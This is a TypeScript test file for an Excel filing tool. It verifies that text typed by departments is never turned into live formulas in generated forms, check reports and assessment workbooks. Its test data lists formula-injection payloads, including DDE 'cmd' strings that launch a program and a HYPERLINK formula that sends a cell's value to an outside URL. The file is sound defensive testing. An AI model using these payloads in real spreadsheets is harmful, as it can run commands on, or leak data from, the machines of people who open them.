/** What a department typed stays a text in everything that is made of it, whatever it looks like. */
import { readFileSync } from 'node:fs';
import { typedText } from '../../../src/excel/typed';
import type { CellContent } from '../../../src/forms/sheet/grid';
import { readWorkbook } from '../../../src/workbook/read';
import { cli, workFolder, writeFiling } from '../../cli/support';
import { formFile, loadFile } from '../../support/filled-form';

/** Every one is recognised by its tail. */
const TAIL = '〔外来〕';
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://example.org/?"&A1,"点击")',
  "=cmd|'/c calc'!A0",
  "+cmd|'/c calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '"&HYPERLINK("http://example.org/")&"',
  "'=1+1",
  '{=1+1}',
  '_x003D_1+1',
].map((text) => `${text}${TAIL}`);

const work = workFolder();

/** The cells of a workbook that hold a foreign text. */
async function foreignCells(bytes: Uint8Array): Promise<CellContent[]> {
  const { grids } = await readWorkbook(bytes, 'a.xlsx');
  return grids
    .filter(({ visible }) => visible)
    .flatMap((grid) =>
      Array.from({ length: grid.rowCount * grid.columnCount }, (_, index) =>
        grid.cell(Math.floor(index / grid.columnCount) + 1, (index % grid.columnCount) + 1),
      ),
    )
    .filter((content) => JSON.stringify(content).includes(TAIL));
}

/** Formulas as a second reader sees them. */
async function formulas(bytes: Uint8Array): Promise<string[]> {
  const found: string[] = [];
  for (const sheet of (await loadFile(bytes)).worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.formula) found.push(cell.formula);
      }),
    );
  return found;
}

async function expectOnlyTexts(bytes: Uint8Array, least: number): Promise<void> {
  const cells = await foreignCells(bytes);
  expect(cells.length).toBeGreaterThanOrEqual(least);
  // In a formula only as a text within it, such as a live sentence that names what was typed.
  for (const formula of await formulas(bytes)) {
    const code = formula.replace(/"(?:[^"]|"")*"/g, '""');
    expect(code).not.toContain(TAIL);
    expect(code).not.toMatch(/\||SUM\(1,1\)/);
    // A link of ours leads within the workbook; quotation marks of a foreign text are doubled.
    expect(formula).not.toMatch(/HYPERLINK\("[^"]*http/);
  }
}

/** A filing whose every text is one of them. */
const answers = Object.fromEntries(
  HOSTILE.map((text, index) => [
    `TX-${String(index + 1).padStart(2, '0')}`,
    { 'actual:2021': text, source: text, explanation: text, department: text },
  ]),
);
const tasks = Object.fromEntries(
  HOSTILE.map((text, index) => [`TX-T${String(index + 1).padStart(2, '0')}`, { 'progress:2021': text }]),
);

test('a form that is made with them', async () => {
  const bytes = await formFile('tianxin-14th', {
    years: [2021],
    department: HOSTILE[0] ?? '',
    answers: { ...answers, ...tasks },
  });
  await expectOnlyTexts(bytes, HOSTILE.length);
  const texts = (await foreignCells(bytes)).flatMap((cell) => (cell.kind === 'text' ? [cell.text] : []));
  for (const text of HOSTILE.slice(0, 9)) expect(texts).toContain(text);
});

test('the check report', async () => {
  const [file, report] = [work.path('填报.xlsx'), work.path('审核.xlsx')];
  await writeFiling(file, 'tianxin-14th', { years: [2021], answers: { ...answers, ...tasks } });
  const said = await cli('check', file, '--report', report);
  expect(said.err).not.toContain('意外');
  await expectOnlyTexts(new Uint8Array(readFileSync(report)), 9);
});

test('the assessment workbook', async () => {
  const [file, out] = [work.path('填报.xlsx'), work.path('评估.xlsx')];
  // Figures as they should be, foreign texts wherever a text is asked for.
  const texts = Object.fromEntries(
    Object.entries(answers).map(([code, { source, explanation, department }]) => [
      code,
      { source, explanation, department },
    ]),
  );
  await writeFiling(file, 'tianxin-14th', { years: [2021], answers: { ...texts, ...tasks } });
  const said = await cli('assess', '--year', '2021', file, '-o', out);
  expect(said.err).not.toContain('意外');
  await expectOnlyTexts(new Uint8Array(readFileSync(out)), 1);
});

test.each(HOSTILE)('%j typed into the open workbook', (text) => {
  // What begins like this Excel would read as a formula; behind an apostrophe it reads a text.
  if (/^\s*[=+\-@＝]/.test(text)) expect(typedText(text)).toBe(`'${text}`);
  expect(typedText(text).replace(/^'/, '')).toBe(
    text.startsWith("'") ? text : typedText(text).slice(-text.length),
  );
});
